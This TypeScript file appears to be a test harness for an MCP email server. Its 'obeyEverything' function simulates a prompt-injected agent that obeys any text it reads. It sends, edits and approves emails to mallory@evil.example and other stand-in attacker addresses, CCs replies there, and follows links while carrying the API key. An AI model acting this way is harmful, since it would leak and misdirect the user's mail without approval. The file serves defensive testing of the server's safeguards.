import { type calling, type ToolResult } from "./mcp-client.ts";

type Call = ReturnType<typeof calling>;

/** What the agent did and read. */
export interface Deeds {
  /** Everything that any answer said. */
  readonly read: string[];
  /** Each call of a tool by which something could leave or change, and whether it was refused. */
  readonly done: { readonly tool: string; readonly isError: boolean; readonly error: string | undefined }[];
}

/** What an agent holds: its key, the tools, and the mailbox that it writes from. */
export interface Agent {
  readonly call: Call;
  readonly key: string;
  readonly url: string;
  readonly mailbox: string;
  /** An id that it knows without reading: of an email that waits. */
  readonly named: string;
}

const IDS = /(?<![0-9a-f])[0-9a-f]{24}(?![0-9a-f])/g;
const ADDRESSES = /[\w.]+@evil\.example/g;

/**
 * An agent without judgement: it reads every message, conversation and file, takes each word in them for its user's, and calls every tool with every
 * id, address and link that it finds, listed or not, without approval and at once.
 */
export const obeyEverything = async ({ call, key, url, mailbox, named }: Agent): Promise<Deeds> => {
  const deeds: Deeds = { read: [], done: [] };
  const tried = new Set<string>();
  const once = async (tool: string, inputs: Record<string, unknown>): Promise<ToolResult | undefined> => {
    const name = JSON.stringify([tool, inputs]);
    if (tried.has(name)) return undefined;
    tried.add(name);
    const answer = await call(tool, inputs);
    deeds.read.push(answer.text);
    deeds.done.push({ tool, isError: answer.isError, error: answer.body.error });
    return answer;
  };
  const at = new Date(Date.now() + 1_000).toISOString();
  const words = { body_text: "As you wish.", hold: false };

  const follow = async (link: string): Promise<void> => {
    if (!link.startsWith(url) || tried.has(link)) return;
    tried.add(link);
    const id = /[0-9a-f]{24}/.exec(link)?.[0];
    const body = JSON.stringify(
      id
        ? { revision: 1, even_if_answered: true }
        : {
            items: [...tried]
              .flatMap((name) => name.match(IDS) ?? [])
              .map((one) => ({ id: one, revision: 1 }))
              .slice(0, 900),
          },
    );
    for (const headers of [{ "x-api-key": key }, { authorization: `Bearer ${key}` }]) {
      for (const init of [{ headers }, { method: "POST", headers: { ...headers, "content-type": "application/json" }, body }]) {
        const answer = await fetch(link, init);
        deeds.read.push(await answer.text());
        deeds.done.push({ tool: link, isError: answer.status >= 400, error: String(answer.status) });
      }
    }
  };

  /** What a text names: ids, addresses and links, each tried with every tool that could do harm by it. */
  const obey = async (text: string): Promise<void> => {
    for (const to of new Set(text.match(ADDRESSES))) {
      await once("send_email", { mailbox_id: mailbox, to, subject: "As you wish", ...words });
      await once("draft_email", { mailbox_id: mailbox, to, subject: "As you wish", ...words });
    }
    for (const id of new Set(text.match(IDS))) {
      await once("edit_email", { id, revision: 1, to: "mallory@evil.example", scheduled_at: at });
      for (const revision of [1, 2]) await once("approve_email", { id, revision, even_if_answered: true });
      await once("follow_up", { id, ...words, scheduled_after: "PT0S" });
      for (const tool of ["list_messages", "list_threads", "list_emails"]) await once(tool, { mailbox_id: id });
      for (const tool of ["read_message", "read_thread", "get_email", "get_capacity"]) await once(tool, { id });
      await once("read_attachment", { id, index: 0 });
    }
    for (const link of new Set(text.match(/https?:\/\/[^\s"\\<>]+/g))) await follow(link);
  };

  const made: string[] = [];
  for (let cursor: string | undefined, page = 0; page < 20; page += 1) {
    const list = await once("list_messages", cursor === undefined ? {} : { cursor });
    for (const { id, untrusted_content: words0 } of list?.body.messages ?? []) {
      const whole = await once("read_message", { id, whole: true });
      const file = words0.attachments ? await once("read_attachment", { id, index: 0 }) : undefined;
      const reply = await once("reply_to_message", { id, ...words, cc: ["mallory@evil.example"] });
      if (reply?.body.id) made.push(reply.body.id);
      for (const text of [words0, whole?.body.untrusted_content, file?.body.untrusted_content]) await obey(JSON.stringify(text ?? ""));
    }
    cursor = list?.body.next_cursor;
    if (cursor === undefined) break;
  }
  // Without a right to read it knows no mail, and does what it can on its own.
  await obey(`mallory@evil.example ${named}`);
  for (const id of made) await once("approve_email", { id, revision: 1, even_if_answered: true });
  return deeds;
};
